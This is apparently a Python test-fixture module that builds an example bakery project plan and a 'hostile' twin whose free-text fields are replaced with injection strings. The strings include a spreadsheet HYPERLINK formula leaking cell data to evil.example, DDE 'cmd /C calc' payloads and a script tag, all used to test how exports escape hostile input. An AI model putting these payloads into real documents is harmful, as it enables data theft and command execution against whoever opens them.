"""A small complete plan with schedule, costs, team and risks, and its twin full of hostile texts, for tests."""

from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any

from pydantic import BaseModel

from planexe.blocks.gantt import Gantt
from planexe.executor.attempt_log import Attempt
from planexe.report.report import Report
from planexe.spine.artefact import Artefact
from planexe.spine.registry import StageSet
from planexe.spine.run import Run
from planexe.spine.run_request import RunRequest
from planexe.workflows.plan.costs.cost_models import CostPlan
from planexe.workflows.plan.project_plan.risk_value import LinkedRisks
from planexe.workflows.plan.schedule.schedule import Schedule
from planexe.workflows.plan.team.find_team_roles import TeamRoles
from planexe.workflows.plan.work_breakdown.tree import WbsTree
from tests.plan_requests import plan_request
from tests.report.example_values import (
    CRITICAL_PATH,
    START,
    Week,
    example_costs,
    example_risks,
    example_schedule,
    example_team,
    example_tree,
)
from tests.report.made_reports import artefact, made_folder, small_stages, stage

__all__ = [
    "CRITICAL_PATH",
    "HOSTILE_TEXTS",
    "START",
    "Week",
    "example_artefacts",
    "example_costs",
    "example_report",
    "example_request",
    "example_risks",
    "example_schedule",
    "example_stages",
    "example_team",
    "example_tree",
    "example_work",
]
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a | pipe, a comma; and a semicolon: #hash %% percent",
    "quotes \"double\" and 'single' and `back`",
    "two\nlines\r\nand three",
    "emoji 🥐👩‍🍳 and 面包店",
    "right to left مرحبا \u202egnirts\u202c",
    "controls \x00\x01\x0b\x1b[31m\x7f\x85\ufffe\uffff\ufeff and \ud800 half",
    "<b>&amp;</b><script>alert(1)</script>]]>",
    "section Fake :crit, done, 2020-01-01, 1d",
    "_x0041_ {curly} [square] \\backslash *star* _under_",
    "=" + "long " * 8000,
)


def example_artefacts(week: Week = "every day", *, hostile: bool = False) -> dict[str, Artefact]:
    """Returns an artefact for every stage of the example; in the hostile one every text is."""
    tree = example_tree()
    outline = tree.model_copy(update={"nodes": [n for n in tree.nodes if n.level < 3]})
    made: dict[str, BaseModel] = {
        "wbs_tree_l2": outline,
        "wbs_tree_full": tree,
        "schedule": example_schedule(week),
        "cost_plan": example_costs(),
        "find_team_roles": example_team(),
        "risk_register": example_risks(),
    }
    found = {name: artefact(name) for name in example_stages().stages if name not in made}
    found["wbs_level1"] = artefact("wbs_level1", {"project_title": "Hearth bakery"})
    for name, value in made.items():
        found[name] = artefact(name, value.model_dump(mode="json"), origin="computed")
    if hostile:
        found = {name: replace(one, value=_hostile(one.value, [0])) for name, one in found.items()}
    return found


_FREE_TEXT = frozenset(
    [
        "project_title",
        "final_deliverable",
        "title",
        "description",
        "reason",
        "notes",
        "name",
        "text",
        "resources",
        "explanation",
        "consequences",
        "role_title",
        "assumptions",
        "impact",
        "mitigation",
    ]
)


def _hostile(value: object, count: list[int], key: str = "") -> object:
    """Returns a value in which every free text is one of the hostile ones, in turn."""
    if isinstance(value, dict):
        return {k: _hostile(v, count, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_hostile(v, count, key) for v in value]
    if isinstance(value, str) and key in _FREE_TEXT:
        count[0] += 1
        return HOSTILE_TEXTS[count[0] % len(HOSTILE_TEXTS)]
    return value


def example_stages() -> StageSet:
    """Returns the stages of the example: those of the small plan, with the real values where exports read them."""
    models: dict[str, tuple[str, type[BaseModel]]] = {
        "wbs_tree_l2": ("work_breakdown", WbsTree),
        "schedule": ("schedule", Schedule),
        "cost_plan": ("costs", CostPlan),
        "find_team_roles": ("team", TeamRoles),
        "risk_register": ("project_plan", LinkedRisks),
    }
    more = [
        replace(stage(name, chapter, "initial_prompt", computed=True), value=model)
        for name, (chapter, model) in models.items()
    ]
    found = small_stages(*more)
    stages = {**found.stages, "wbs_tree_full": replace(found.stages["wbs_tree_full"], value=WbsTree)}
    chapters = {**found.chapters, "schedule": "Schedule", "costs": "Costs", "team": "Team"}
    return replace(found, stages=stages, chapters=chapters)


def example_request(**more: Any) -> RunRequest:
    """Returns the request of the example."""
    given: dict[str, Any] = {
        "run_id": "run-7",
        "goal": "Open a bakery in Aarhus before January.",
        "created": "2026-11-21T09:30:00Z",
        "models": ("m1",),
        "version": "0.1.0",
        **more,
    }
    return plan_request(**given)


def example_report(
    runs: Path,
    *,
    week: Week = "every day",
    hostile: bool = False,
    without: Iterable[str] = (),
    attempts: Iterable[Attempt] = (),
    simulated: bool = False,
) -> Report:
    """Returns the report of the example; ``without`` names stages that have made nothing."""
    left_out = set(without)
    made = {n: a for n, a in example_artefacts(week, hostile=hostile).items() if n not in left_out}
    goal = {"goal": "\n".join(HOSTILE_TEXTS)} if hostile else {}
    folder = made_folder(runs, made, attempts, example_request(simulated=simulated, **goal))
    return Report(Run(folder, example_stages()))


def example_work(runs: Path, *, week: Week = "every day", hostile: bool = False, without: Iterable[str] = ()) -> Gantt:
    """Returns the work of the example."""
    return example_report(runs, week=week, hostile=hostile, without=without).gantt
